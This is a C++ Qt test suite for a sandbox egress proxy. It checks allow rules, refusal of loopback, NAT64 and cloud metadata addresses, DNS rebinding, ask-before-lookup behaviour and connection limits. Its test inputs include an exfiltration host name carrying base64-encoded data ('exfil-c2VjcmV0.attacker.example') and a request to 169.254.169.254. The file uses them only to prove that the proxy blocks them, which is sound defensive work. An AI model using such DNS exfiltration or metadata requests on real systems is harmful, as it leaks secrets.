// The egress proxy between a program's connections and real servers on this machine's loopback:
// what a rule names goes through (a CONNECT tunnel, a plain request), everything else is
// refused with the reason before any connection is made, and the limits hold against a program
// that opens too many connections, sends too much, or never finishes its request. Every case runs
// twice: open connections carried in the kernel (ByteShuttle) and through Qt's sockets.
#include "egress/EgressProxy.h"

#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>

#include <memory>
#include <sys/socket.h>

using namespace csm;

namespace {

constexpr qint64 kBigBody = 24 * 1024 * 1024;

HostPattern pattern(const QString& text)
{
    Expected<HostPattern> parsed = HostPattern::parse(text);
    if (!parsed)
        qFatal("%s", qPrintable(parsed.error()));
    return *parsed;
}

enum class Until
{
    Closed,   // the proxy closes the connection
    HeadEnds, // the answer's head is complete: a tunnel a CONNECT opens stays open
};

// What one client connection to the proxy receives after `send`, until `until` (or what came
// within `timeoutMs` if that does not happen).
QByteArray exchange(QTcpSocket& client, const QByteArray& send, Until until = Until::Closed,
                    int timeoutMs = 5000)
{
    client.write(send);
    QByteArray received;
    [[maybe_unused]] const bool done = QTest::qWaitFor(
        [&] {
            received += client.readAll();
            return client.state() == QAbstractSocket::UnconnectedState ||
                   (until == Until::HeadEnds && received.contains("\r\n\r\n"));
        },
        timeoutMs);
    return received + (until == Until::Closed ? client.readAll() : QByteArray());
}

} // namespace

class tst_EgressProxy final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase_data()
    {
        QTest::addColumn<bool>("kernel");
        QTest::newRow("kernel") << true;
        QTest::newRow("qt") << false;
    }

    void init()
    {
        // An upstream on loopback: echoes what a tunnel carries; answers a plain request.
        m_upstream = std::make_unique<QTcpServer>();
        QVERIFY(m_upstream->listen(QHostAddress::LocalHost));
        m_upstreamSaw.clear();
        connect(m_upstream.get(), &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = m_upstream->nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QByteArray bytes = socket->readAll();
                    m_upstreamSaw += bytes;
                    if (bytes.startsWith("GET /big ")) {
                        const QByteArray body(kBigBody, 'b');
                        socket->write("HTTP/1.1 200 OK\r\nContent-Length: " +
                                      QByteArray::number(kBigBody) + "\r\n\r\n" + body);
                        socket->disconnectFromHost();
                    } else if (bytes.startsWith("GET ")) {
                        socket->write("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello");
                        socket->disconnectFromHost();
                    } else {
                        socket->write(bytes);
                        // Out now: a Qt socket that reads the end of the stream closes at
                        // once, with what it had not written yet (aHalfCloseStillGetsTheAnswer).
                        socket->flush();
                    }
                });
            }
        });
        m_front = std::make_unique<QTcpServer>();
        QVERIFY(m_front->listen(QHostAddress::LocalHost));
    }

    void aNamedHostIsTunnelled()
    {
        EgressProxy& proxy = start(EgressMode::Open, {QStringLiteral("localhost:%1").arg(port())});
        QSignalSpy ended(&proxy, &EgressProxy::connectionEnded);
        QTcpSocket client;
        connectClient(client);
        // The rule matches without case; the record keeps the name as the program wrote it
        // (what the redaction of a secret sent as a host name needs).
        client.write(
            QStringLiteral("CONNECT LocalHost:%1 HTTP/1.1\r\n\r\n").arg(port()).toLatin1());
        QByteArray received;
        QVERIFY(QTest::qWaitFor([&] {
            received += client.readAll();
            return received.contains("\r\n\r\n");
        }));
        QVERIFY2(received.startsWith("HTTP/1.1 200"), received.constData());
        client.write("ping");
        QTRY_VERIFY((received += client.readAll()).endsWith("ping"));
        client.disconnectFromHost();
        QTRY_COMPARE(ended.size(), 1);
        const auto connection = ended.at(0).at(0).value<EgressConnection>();
        QVERIFY(connection.allowed);
        QCOMPARE(connection.host, QStringLiteral("LocalHost"));
        QCOMPARE(connection.bytesSent, 4);
        QCOMPARE(connection.bytesReceived, 4);
        QVERIFY(connection.address == QLatin1String("127.0.0.1") ||
                connection.address == QLatin1String("::1"));
    }

    // This machine's name (either spelling, a rule naming the other) is its loopback, with no
    // lookup; without a rule it is refused, and the refusal of a loopback address names it.
    void thisMachinesNameLeadsToItsLoopbackOnceARuleNamesIt()
    {
        EgressProxy& proxy =
            start(EgressMode::Open, {QStringLiteral("host.docker.internal:%1").arg(port())});
        QStringList lookedUp;
        proxy.setResolver(
            [&lookedUp](const QString& host, std::function<void(QList<QHostAddress>)> done) {
                lookedUp << host;
                done({QHostAddress(QStringLiteral("93.184.215.14"))});
            });
        QSignalSpy ended(&proxy, &EgressProxy::connectionEnded);
        for (const QString& name : {QStringLiteral("host.containers.internal"),
                                    QStringLiteral("HOST.docker.internal.")}) {
            QTcpSocket client;
            connectClient(client);
            const QByteArray answer = exchange(
                client,
                QStringLiteral("CONNECT %1:%2 HTTP/1.1\r\n\r\n").arg(name).arg(port()).toLatin1(),
                Until::HeadEnds);
            QVERIFY2(answer.startsWith("HTTP/1.1 200"), answer.constData());
            client.write("ping");
            QByteArray echoed;
            QTRY_VERIFY((echoed += client.readAll()).endsWith("ping"));
        }
        QTRY_COMPARE(ended.size(), 2);
        QCOMPARE(ended.at(0).at(0).value<EgressConnection>().address, QStringLiteral("127.0.0.1"));
        // Another port: no rule names it.
        QTcpSocket other;
        connectClient(other);
        const QByteArray refused =
            exchange(other, QStringLiteral("CONNECT host.containers.internal:%1 HTTP/1.1\r\n\r\n")
                                .arg(port() == 1 ? 2 : port() - 1)
                                .toLatin1());
        QVERIFY2(refused.startsWith("HTTP/1.1 403") &&
                     refused.contains("--allow-host host.containers.internal:"),
                 refused.constData());
        QCOMPARE(lookedUp, QStringList());
        // A loopback address is refused with the way to this machine's services.
        QTcpSocket literal;
        connectClient(literal);
        const QByteArray byAddress = exchange(
            literal,
            QStringLiteral("CONNECT 127.0.0.1:%1 HTTP/1.1\r\n\r\n").arg(port()).toLatin1());
        QVERIFY2(byAddress.startsWith("HTTP/1.1 403") &&
                     byAddress.contains("host.containers.internal:PORT"),
                 byAddress.constData());
    }

    // A program that says it has sent everything (shutdown of its writing side, as `nc -N`
    // does) still gets the host's answer.
    void aHalfCloseStillGetsTheAnswer()
    {
        QFETCH_GLOBAL(bool, kernel);
        if (!kernel)
            QSKIP("Qt's sockets take a half-close for a close: only the kernel path carries it");
        EgressProxy& proxy = start(EgressMode::Open, {QStringLiteral("localhost:%1").arg(port())});
        QSignalSpy ended(&proxy, &EgressProxy::connectionEnded);
        QTcpSocket client;
        openTunnel(client);
        if (QTest::currentTestFailed())
            return;
        client.write("ping");
        QVERIFY(client.waitForBytesWritten(5000));
        QCOMPARE(::shutdown(int(client.socketDescriptor()), SHUT_WR), 0);
        QByteArray received;
        QVERIFY(QTest::qWaitFor(
            [&] {
                received += client.readAll();
                return client.state() == QAbstractSocket::UnconnectedState;
            },
            5000));
        received += client.readAll();
        QCOMPARE(received, QByteArray("ping"));
        QTRY_COMPARE(ended.size(), 1);
        QCOMPARE(ended.at(0).at(0).value<EgressConnection>().bytesReceived, 4);
    }

    // Far more than the relay holds at once, both ways: it flows, held back, not piled up.
    void aLargeTransferFlowsThrough()
    {
        start(EgressMode::Open, {QStringLiteral("localhost:%1").arg(port())});
        QTcpSocket client;
        openTunnel(client);
        if (QTest::currentTestFailed())
            return;
        constexpr qint64 kTotal = 16 * 1024 * 1024;
        const QByteArray chunk(64 * 1024, 'z');
        qint64 sent = 0;
        qint64 received = 0;
        QVERIFY(QTest::qWaitFor(
            [&] {
                while (sent < kTotal && client.bytesToWrite() < 4 * chunk.size())
                    sent += client.write(chunk);
                received += client.readAll().size();
                return received == kTotal;
            },
            30'000));
    }

    // A host that sends a large answer and closes at once, to a program that reads slowly: the
    // answer's last megabyte, still held when the host closed, reaches the program too.
    void theLastBytesBeforeTheHostClosesArrive()
    {
        EgressProxy& proxy = start(EgressMode::Open, {QStringLiteral("localhost:%1").arg(port())});
        QSignalSpy ended(&proxy, &EgressProxy::connectionEnded);
        QTcpSocket client;
        connectClient(client);
        client.write(
            QStringLiteral("GET http://localhost:%1/big HTTP/1.1\r\n\r\n").arg(port()).toLatin1());
        // Read slowly, a little at a time: the relay holds the rest, and the host finishes
        // sending (and closes) while the relay still holds some of it.
        client.setReadBufferSize(64 * 1024);
        QByteArray received;
        QVERIFY(QTest::qWaitFor(
            [&] {
                received += client.read(64 * 1024);
                return client.state() == QAbstractSocket::UnconnectedState;
            },
            60'000));
        QCOMPARE(ended.size(), 1);
        received += client.readAll();
        QVERIFY(received.startsWith("HTTP/1.1 200 OK\r\n"));
        QCOMPARE(received.size() - received.indexOf("\r\n\r\n") - 4, kBigBody);
        QCOMPARE(ended.at(0).at(0).value<EgressConnection>().bytesReceived, received.size());
    }

    void aPlainRequestIsForwardedOnce()
    {
        start(EgressMode::Open, {QStringLiteral("localhost:%1").arg(port())});
        QTcpSocket client;
        connectClient(client);
        const QByteArray answer = exchange(
            client, QStringLiteral("GET http://localhost:%1/data?x=1 HTTP/1.1\r\nHost: 10.0.0.1\r\n"
                                   "Proxy-Authorization: secret\r\n\r\n")
                        .arg(port())
                        .toLatin1());
        QVERIFY2(answer.endsWith("hello"), answer.constData());
        QVERIFY2(m_upstreamSaw.startsWith("GET /data?x=1 HTTP/1.1\r\n"), m_upstreamSaw.constData());
        QVERIFY(m_upstreamSaw.contains(
            QStringLiteral("Host: localhost:%1\r\n").arg(port()).toLatin1()));
        QVERIFY(!m_upstreamSaw.contains("10.0.0.1"));
        QVERIFY(!m_upstreamSaw.contains("Proxy-Authorization"));
    }

    void whatIsNotNamedOrPublicIsRefusedBeforeAnyConnection()
    {
        EgressProxy& proxy = start(EgressMode::Open, {});
        QSignalSpy ended(&proxy, &EgressProxy::connectionEnded);
        int upstreamConnections = 0;
        connect(m_upstream.get(), &QTcpServer::newConnection, this, [&] { ++upstreamConnections; });
        for (const QString& target : {QStringLiteral("localhost:%1").arg(port()),
                                      QStringLiteral("127.0.0.1:%1").arg(port()),
                                      QStringLiteral("[::ffff:127.0.0.1]:%1").arg(port()),
                                      // IPv4-translated and local-use NAT64: a translator on
                                      // the path could make them this machine.
                                      QStringLiteral("[::ffff:0:127.0.0.1]:%1").arg(port()),
                                      QStringLiteral("[64:ff9b:1::7f00:1]:%1").arg(port()),
                                      QStringLiteral("169.254.169.254:80")}) {
            QTcpSocket client;
            connectClient(client);
            const QByteArray answer =
                exchange(client, "CONNECT " + target.toLatin1() + " HTTP/1.1\r\n\r\n");
            QVERIFY2(answer.startsWith("HTTP/1.1 403"), answer.constData());
            QVERIFY2(answer.contains("allow rule"), answer.constData());
        }
        QTRY_COMPARE(ended.size(), 6);
        QVERIFY(
            ended.at(5).at(0).value<EgressConnection>().reason.contains(QLatin1String("metadata")));
        QCOMPARE(upstreamConnections, 0);
    }

    // A name that resolves to a public and a private address (DNS rebinding), and ask mode.
    void resolvedAddressesAreCheckedAndAskModeAsks()
    {
        EgressProxy& proxy = start(EgressMode::Ask, {});
        proxy.setResolver([](const QString& host, std::function<void(QList<QHostAddress>)> done) {
            if (host == QLatin1String("rebind.example"))
                done({QHostAddress(QStringLiteral("93.184.215.14")), QHostAddress::LocalHost});
            else
                done({QHostAddress(QStringLiteral("93.184.215.14"))});
        });
        proxy.setRunLabel(QStringLiteral("Python run started 10:00:00: import requests"));
        QStringList asked;
        proxy.setAsker([&](const EgressQuestion& question, std::function<void(bool)> done) {
            asked << QStringLiteral("%1:%2 (%3)")
                         .arg(question.host)
                         .arg(question.port)
                         .arg(question.runLabel);
            done(question.host == QLatin1String("rebind.example"));
        });
        // Allowed when asked, then refused on what it resolves to.
        QTcpSocket rebind;
        connectClient(rebind);
        QVERIFY(
            exchange(rebind, "CONNECT rebind.example:443 HTTP/1.1\r\n\r\n").contains("loopback"));
        QTcpSocket askedClient;
        connectClient(askedClient);
        const QByteArray answer = exchange(askedClient, "CONNECT new.example:443 HTTP/1.1\r\n\r\n");
        QVERIFY2(answer.contains("denied when asked"), answer.constData());
        QCOMPARE(asked,
                 (QStringList{QStringLiteral("rebind.example:443 (Python run started 10:00:00: "
                                             "import requests)"),
                              QStringLiteral("new.example:443 (Python run started 10:00:00: "
                                             "import requests)")}));
    }

    // A lookup carries the name (and whatever a program encoded in it) to the resolver and
    // beyond: in ask mode no name is looked up before someone allowed it.
    void askModeAsksBeforeTheNameIsLookedUp()
    {
        EgressProxy& proxy = start(EgressMode::Ask, {});
        QStringList lookedUp;
        proxy.setResolver(
            [&lookedUp](const QString& host, std::function<void(QList<QHostAddress>)> done) {
                lookedUp << host;
                done({QHostAddress(QStringLiteral("93.184.215.14"))});
            });
        // No one to ask (a headless server): refused, never looked up.
        QTcpSocket headless;
        connectClient(headless);
        const QByteArray unasked =
            exchange(headless, "CONNECT exfil-c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n");
        QVERIFY2(unasked.startsWith("HTTP/1.1 403") && unasked.contains("no one to ask"),
                 unasked.constData());
        QCOMPARE(lookedUp, QStringList());
        // Denied when asked: never looked up either; allowed: looked up after the answer.
        QStringList events;
        proxy.setAsker([&](const EgressQuestion& question, std::function<void(bool)> done) {
            events << QStringLiteral("asked ") + question.host;
            QCOMPARE(lookedUp, QStringList());
            done(question.host == QLatin1String("allowed.example"));
        });
        QTcpSocket denied;
        connectClient(denied);
        QVERIFY(exchange(denied, "CONNECT exfil-2.attacker.example:443 HTTP/1.1\r\n\r\n")
                    .contains("denied when asked"));
        QCOMPARE(lookedUp, QStringList());
        QTcpSocket allowed;
        connectClient(allowed);
        allowed.write("CONNECT allowed.example:443 HTTP/1.1\r\n\r\n");
        QTRY_COMPARE(lookedUp, QStringList{QStringLiteral("allowed.example")});
        QCOMPARE(events, (QStringList{QStringLiteral("asked exfil-2.attacker.example"),
                                      QStringLiteral("asked allowed.example")}));
    }

    void badInputAndLimits()
    {
        EgressProxy::Limits limits;
        limits.headTimeoutMs = 300;
        limits.maxOpenConnections = 2;
        limits.maxBytes = 1000;
        EgressProxy& proxy =
            start(EgressMode::Open, {QStringLiteral("localhost:%1").arg(port())}, limits);
        QTcpSocket binary;
        connectClient(binary);
        QVERIFY(exchange(binary, QByteArray("\x16\x03\x01\x00", 4)).startsWith("HTTP/1.1 400"));

        // Two that never finish their request, then a third: refused at once; the two are cut.
        QTcpSocket slow1;
        QTcpSocket slow2;
        QTcpSocket third;
        for (QTcpSocket* client : {&slow1, &slow2, &third})
            connectClient(*client);
        slow1.write("CONNECT local");
        slow2.write("GET http://");
        QTRY_COMPARE(proxy.openConnections(), 2);
        QVERIFY(exchange(third, "CONNECT localhost:1 HTTP/1.1\r\n\r\n").startsWith("HTTP/1.1 429"));
        QTRY_COMPARE_WITH_TIMEOUT(slow1.state(), QAbstractSocket::UnconnectedState, 3000);
        QTRY_COMPARE(proxy.openConnections(), 0);

        // More than the run's byte budget through a tunnel: cut.
        QSignalSpy ended(&proxy, &EgressProxy::connectionEnded);
        QTcpSocket heavy;
        connectClient(heavy);
        heavy.write(QStringLiteral("CONNECT localhost:%1 HTTP/1.1\r\n\r\n").arg(port()).toLatin1());
        QTRY_VERIFY(heavy.bytesAvailable() > 0);
        heavy.readAll();
        heavy.write(QByteArray(5000, 'x'));
        QTRY_COMPARE(ended.size(), 1);
        QVERIFY2(
            ended.at(0).at(0).value<EgressConnection>().reason.contains(QLatin1String("limit")),
            qPrintable(ended.at(0).at(0).value<EgressConnection>().reason));
        QTRY_COMPARE(heavy.state(), QAbstractSocket::UnconnectedState);
    }

private:
    quint16 port() const { return m_upstream->serverPort(); }

    EgressProxy& start(EgressMode mode, const QStringList& rules, EgressProxy::Limits limits = {})
    {
        QList<HostPattern> allowed;
        for (const QString& rule : rules)
            allowed << pattern(rule);
        m_proxy = std::make_unique<EgressProxy>(EgressPolicy(mode, allowed, {}), limits);
        QFETCH_GLOBAL(bool, kernel);
        m_proxy->setCarryInKernel(kernel);
        connect(m_front.get(), &QTcpServer::newConnection, m_proxy.get(), [this] {
            while (QTcpSocket* socket = m_front->nextPendingConnection())
                m_proxy->serve(socket);
        });
        return *m_proxy;
    }

    void connectClient(QTcpSocket& client)
    {
        client.connectToHost(QHostAddress::LocalHost, m_front->serverPort());
        QVERIFY(client.waitForConnected(5000));
    }

    // A tunnel to the test's upstream, its 200 read.
    void openTunnel(QTcpSocket& client)
    {
        connectClient(client);
        client.write(
            QStringLiteral("CONNECT localhost:%1 HTTP/1.1\r\n\r\n").arg(port()).toLatin1());
        QTRY_VERIFY(client.bytesAvailable() > 0);
        QVERIFY(client.readAll().startsWith("HTTP/1.1 200"));
    }

    std::unique_ptr<QTcpServer> m_upstream;
    std::unique_ptr<QTcpServer> m_front;
    std::unique_ptr<EgressProxy> m_proxy;
    QByteArray m_upstreamSaw;
};

QTEST_GUILESS_MAIN(tst_EgressProxy)
#include "tst_EgressProxy.moc"
